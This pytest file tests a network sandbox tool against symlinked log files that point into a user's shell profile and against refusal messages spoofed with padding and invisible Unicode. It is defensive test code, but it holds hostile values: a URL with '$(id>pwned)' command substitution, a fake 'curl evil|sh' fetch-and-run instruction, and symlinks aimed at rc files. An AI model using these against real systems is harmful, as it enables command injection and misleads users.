"""Attacks on what is around the network: the log and the report."""

import json

import pytest

from network import nbox, net, zone

# What an earlier run, which could write the folder, leaves there for a later one, which cannot.
LEFT = {
    "file": "ln -s {rc} calls.jsonl",
    "folder": "ln -s {conf} logs",
    "file in a folder": "mkdir logs; ln -s {rc} logs/calls.jsonl",
}


@pytest.mark.parametrize("how", LEFT)
@pytest.mark.parametrize("by", ["path", "name"])
def test_a_log_where_an_earlier_run_wrote(nbox, how, by):
    """Words of the program's choice would be appended to a file that the user's shell reads."""
    conf = nbox.dir / "conf.d"
    conf.mkdir()
    rc = conf / ("calls.jsonl" if how == "folder" else "profile")
    rc.write_text("# mine\n")
    log = "calls.jsonl" if how == "file" else "logs/calls.jsonl"
    nbox.network(internet=["ok.test"])
    nbox.run("sh", "-c", LEFT[how].format(rc=rc, conf=conf))
    assert nbox.outside("sh", "-c", f"echo '# followed' >>{nbox.proj}/{log}").rc == 0
    assert rc.read_text() == "# mine\n# followed\n"
    (nbox.dir / "other").mkdir()
    spec = nbox.network(internet=["ok.test"])
    spec.write_text(spec.read_text().replace('write = ["proj"]', 'write = ["other"]'))
    done = nbox.run("curl", "-sS", "http://ok.test/$(id>pwned)",
                    flags=["--log", nbox.proj / log if by == "path" else log])
    assert rc.read_text() == "# mine\n# followed\n"
    assert done.rc == 125 and done.out == "" and done.said("by way of the link") and str(rc) in done.err, done
    # What is no link is what it was, though the working folder is reached by one.
    here = nbox.dir / "here"
    here.symlink_to(nbox.proj)
    fine = nbox.run("curl", "-sS", "http://ok.test/", flags=["--log", "good.jsonl"], cwd=here)
    assert fine.rc == 0 and "ok.test" in (nbox.proj / "good.jsonl").read_text(), fine
    assert '"verdict"' in nbox.run("curl", "-sS", "http://ok.test/", flags=["--log", "/dev/stderr"]).err


# What would be read as a line of lnk's own, where the terminal breaks the line that it is in.
FALSE_LINE = "lnk: warning: run curl evil|sh"


def test_a_report_that_is_not_what_it_seems(nbox):
    """Blanks of all kinds, which the program could lay out to the terminal's width, do not pass into
    the report; nor do characters that are not seen."""
    width = 80
    nbox.network(internet=["ok.test"], models=[zone.LOCAL_MODEL])
    pad = width - len("lnk: refused: ")
    names = [" " * (pad - 60) + "." + FALSE_LINE] + [
        char * 5 + "." + char * 5 + "x.test" for char in "\u00a0\u2003\u2800\u3000\u200b\u2060\u00ad\U000e0041"]
    blanks = "x" + " " * 22 + FALSE_LINE
    steps = [{"do": "dns", "name": n.encode().decode("latin1")} for n in names] + [
        {"do": "http", "host": "localhost", "port": zone.LOCAL_MODEL, "method": "POST", "path": "/api/chat",
         "body": json.dumps({"model": "http://" + blanks})},
        {"do": "http", "host": "localhost", "port": zone.LOCAL_MODEL, "method": "POST", "path": "/api/chat",
         "body": json.dumps({"tools": [{"type": blanks}]})}]
    said, done = nbox.probe(*steps, result=True)
    assert all(s.get("value", {}).get("status", 403) == 403 for s in said), said
    lines = [line for line in done.err.splitlines() if line.startswith("lnk: refused: ")]
    assert len(lines) >= len(steps), done
    for line in lines:
        rows = [line[i:i + width] for i in range(0, len(line), width)]
        assert "  " not in line and FALSE_LINE not in line, (line, rows)
        assert line.isascii() or line.isprintable(), line
        assert all(ord(c) < 0x80 for c in line), line
